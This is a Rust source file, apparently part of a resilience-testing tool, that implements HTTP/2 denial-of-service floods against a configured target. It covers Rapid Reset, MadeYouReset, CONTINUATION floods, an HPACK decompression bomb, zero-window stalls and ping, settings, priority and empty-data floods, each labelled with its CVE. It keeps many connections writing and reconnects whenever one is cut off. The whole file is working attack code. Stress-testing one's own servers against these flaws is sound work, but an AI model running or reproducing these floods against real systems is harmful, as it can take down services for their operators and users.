//! Floods of HTTP/2: each connection writes frames of one kind for as long as it is let, and begins anew when it is cut
//! off. What comes back is read, so that it is not the flood's own queue that stops it, except where that is the point.

use std::{
    io,
    time::{Duration, Instant},
};

use clap::{Args, ValueEnum};
use serde_json::{Value, json};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::{TcpStream, tcp::OwnedReadHalf},
    task::JoinSet,
    time,
};

use crate::{
    Target, bodies,
    endpoint::{Endpoint, Verb},
    frames::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, NEWEST, PING, PREFACE, PRIORITY,
        RST_STREAM, SETTINGS, WINDOW_UPDATE, field, frame, indexed_field,
    },
    tallied::Tallied,
};

#[derive(Args)]
pub(crate) struct Flood {
    #[command(flatten)]
    target: Target,
    /// Which frames
    #[arg(long, value_enum)]
    kind: Kind,
    /// For how long
    #[arg(long, default_value_t = 5.0)]
    seconds: f64,
    /// On how many connections at once
    #[arg(long, default_value_t = 8)]
    connections: usize,
}

#[derive(Clone, Copy, PartialEq, Eq, ValueEnum)]
enum Kind {
    /// Requests that are reset at once (CVE-2023-44487)
    RapidReset,
    /// The same with a token: each is judged and recorded
    RapidResetWithToken,
    /// Requests that make the server reset them (CVE-2025-8671)
    MadeReset,
    /// A head that never ends (CVE-2024-27316 and its like)
    Continuation,
    /// Fields that grow a thousandfold when they are decoded, and a window that lets nothing out
    HpackBomb,
    /// Large answers with a window that lets nothing out (CVE-2019-9517)
    ZeroWindow,
    /// Pings whose answers are not read (CVE-2019-9512)
    Ping,
    /// Settings whose answers are not read (CVE-2019-9515)
    Settings,
    /// Data without data (CVE-2019-9518)
    EmptyData,
    /// Priorities of streams that are not there (CVE-2019-9513)
    Priority,
    /// Windows that are opened byte by byte
    WindowUpdate,
}

/// What is written: once at first, and then again and again.
struct Plan {
    first: Vec<u8>,
    /// Frames made for a stream of that number.
    again: Box<dyn Fn(u32) -> Vec<u8> + Send + Sync>,
    /// Rounds after which nothing more is written but the connection is held.
    rounds: u32,
    reads: bool,
}

impl Flood {
    pub(crate) async fn run(self) -> anyhow::Result<Value> {
        let endpoints = self.target.endpoints()?;
        let until = Instant::now() + Duration::from_secs_f64(self.seconds);
        let mut workers = JoinSet::new();
        for endpoint in endpoints.iter().cycle().take(self.connections) {
            let (endpoint, kind) = (endpoint.clone(), self.kind);
            workers.spawn(async move {
                let (mut ended, mut frames, mut connections) = (Tallied::default(), 0_u64, 0_u64);
                while Instant::now() < until {
                    connections += 1;
                    match flood(&endpoint, kind, until, &mut frames).await {
                        Ok(reason) => ended.fail(reason),
                        Err(error) => ended.fail(error.kind()),
                    }
                    time::sleep(Duration::from_millis(20)).await;
                }
                (ended, frames, connections)
            });
        }
        let (mut ended, mut frames, mut connections) = (Tallied::default(), 0, 0);
        while let Some(done) = workers.join_next().await {
            let (of_one, more, begun) = done?;
            ended.add(of_one);
            frames += more;
            connections += begun;
        }
        Ok(json!({ "rounds": frames, "connections": connections, "ended": ended.failed }))
    }
}

/// One connection, until it is cut off or the time is over.
async fn flood(endpoint: &Endpoint, kind: Kind, until: Instant, frames: &mut u64) -> io::Result<String> {
    let plan = plan(endpoint, kind);
    let stream = TcpStream::connect(endpoint.address).await?;
    stream.set_nodelay(true)?;
    let (reader, mut writer) = stream.into_split();
    let mut reading = JoinSet::new();
    if plan.reads {
        reading.spawn(read(reader));
    } else {
        // Held, not read.
        reading.spawn(async move {
            time::sleep_until(until.into()).await;
            drop(reader);
            Ok("time".to_owned())
        });
    }
    let write = async {
        writer.write_all(PREFACE).await?;
        writer.write_all(&plan.first).await?;
        let mut stream = 1_u32;
        while Instant::now() < until && (stream - 1) / 2 < plan.rounds {
            let mut batch = Vec::new();
            for _ in 0..16 {
                batch.extend((plan.again)(stream));
                stream = (stream + 2) & 0x7fff_ffff;
                *frames += 1;
            }
            writer.write_all(&batch).await?;
            // Others share this thread.
            tokio::task::yield_now().await;
        }
        time::sleep_until(until.into()).await;
        Ok::<_, io::Error>("time".to_owned())
    };
    tokio::select! {
        wrote = write => match wrote {
            Ok(reason) => Ok(reason),
            // What the other side said last tells more than that it does not listen any more.
            Err(error) => match time::timeout(Duration::from_millis(200), reading.join_next()).await {
                Ok(Some(Ok(Ok(reason)))) => Ok(reason),
                _ => Err(error),
            },
        },
        Some(said) = reading.join_next() => said.unwrap_or_else(|error| Err(io::Error::other(error))),
        () = time::sleep_until(until.into()) => Ok("time".to_owned()),
    }
}

/// Reads frames until the other side says that it is over, and why.
async fn read(mut reader: OwnedReadHalf) -> io::Result<String> {
    loop {
        let mut head = [0; 9];
        reader.read_exact(&mut head).await?;
        let [a, b, c, kind, ..] = head;
        let length = usize::try_from(u32::from_be_bytes([0, a, b, c])).unwrap_or(0);
        let mut payload = vec![0; length];
        reader.read_exact(&mut payload).await?;
        if kind == GOAWAY {
            let code = payload.get(4..8).and_then(|code| code.try_into().ok()).map_or(0, u32::from_be_bytes);
            return Ok(format!("GOAWAY {code}"));
        }
    }
}

fn plan(endpoint: &Endpoint, kind: Kind) -> Plan {
    let (without, with) = (block(endpoint, Who::Nobody), block(endpoint, Who::Somebody));
    let (small, large) = (bodies::call(1), bodies::large(1 << 20));
    let mut first = Vec::new();
    let zero_window = [0, 4, 0, 0, 0, 0];
    let settings: &[u8] = match kind {
        Kind::HpackBomb | Kind::ZeroWindow => &zero_window,
        _ => &[],
    };
    frame(&mut first, SETTINGS, 0, 0, settings);
    let mut plan = Plan { first, again: Box::new(|_| Vec::new()), rounds: u32::MAX, reads: true };
    plan.again = match kind {
        Kind::RapidReset => Box::new(move |stream| reset(&without, stream)),
        Kind::RapidResetWithToken => Box::new(move |stream| {
            let mut out = Vec::new();
            frame(&mut out, HEADERS, END_HEADERS, stream, &with);
            frame(&mut out, DATA, END_STREAM, stream, small.as_bytes());
            frame(&mut out, RST_STREAM, 0, stream, &CANCEL);
            out
        }),
        Kind::MadeReset => Box::new(move |stream| {
            let mut out = Vec::new();
            frame(&mut out, HEADERS, END_HEADERS, stream, &with);
            frame(&mut out, WINDOW_UPDATE, 0, stream, &[0; 4]);
            out
        }),
        Kind::Continuation => {
            frame(&mut plan.first, HEADERS, 0, 1, &without);
            let mut more = Vec::new();
            field(&mut more, "x-more", &"x".repeat(4000));
            Box::new(move |_| {
                let mut out = Vec::new();
                frame(&mut out, CONTINUATION, 0, 1, &more);
                out
            })
        }
        Kind::HpackBomb => {
            plan.rounds = 4096;
            let value = "x".repeat(3900);
            Box::new(move |stream| {
                let mut fields = without.clone();
                indexed_field(&mut fields, "x-bomb", &value);
                fields.resize(16_000, NEWEST);
                let mut out = Vec::new();
                frame(&mut out, HEADERS, END_HEADERS | END_STREAM, stream, &fields);
                out
            })
        }
        Kind::ZeroWindow => {
            plan.rounds = 240;
            Box::new(move |stream| {
                let mut out = Vec::new();
                frame(&mut out, HEADERS, END_HEADERS, stream, &with);
                frame(&mut out, DATA, END_STREAM, stream, large.as_bytes());
                out
            })
        }
        Kind::Ping => {
            plan.reads = false;
            Box::new(|_| {
                let mut out = Vec::new();
                frame(&mut out, PING, 0, 0, b"narrows?");
                out
            })
        }
        Kind::Settings => {
            plan.reads = false;
            Box::new(|_| {
                let mut out = Vec::new();
                frame(&mut out, SETTINGS, 0, 0, &[]);
                out
            })
        }
        Kind::EmptyData => {
            frame(&mut plan.first, HEADERS, END_HEADERS, 1, &with);
            Box::new(|_| {
                let mut out = Vec::new();
                frame(&mut out, DATA, 0, 1, &[]);
                out
            })
        }
        Kind::Priority => Box::new(|stream| {
            let mut out = Vec::new();
            frame(&mut out, PRIORITY, 0, stream, &[0, 0, 0, 0, 1]);
            out
        }),
        Kind::WindowUpdate => Box::new(|_| {
            let mut out = Vec::new();
            frame(&mut out, WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]);
            out
        }),
    };
    plan
}

/// An error code.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

fn reset(fields: &[u8], stream: u32) -> Vec<u8> {
    let mut out = Vec::new();
    frame(&mut out, HEADERS, END_HEADERS | END_STREAM, stream, fields);
    frame(&mut out, RST_STREAM, 0, stream, &CANCEL);
    out
}

enum Who {
    Nobody,
    Somebody,
}

/// The header block of a POST.
fn block(endpoint: &Endpoint, who: Who) -> Vec<u8> {
    let mut out = Vec::new();
    field(&mut out, ":method", "POST");
    field(&mut out, ":scheme", "http");
    field(&mut out, ":path", &endpoint.path);
    field(&mut out, ":authority", &endpoint.address.to_string());
    for (name, value) in endpoint.headers(Verb::Post, None) {
        match who {
            Who::Nobody if name == "authorization" => {}
            Who::Nobody | Who::Somebody => field(&mut out, name, &value),
        }
    }
    out
}
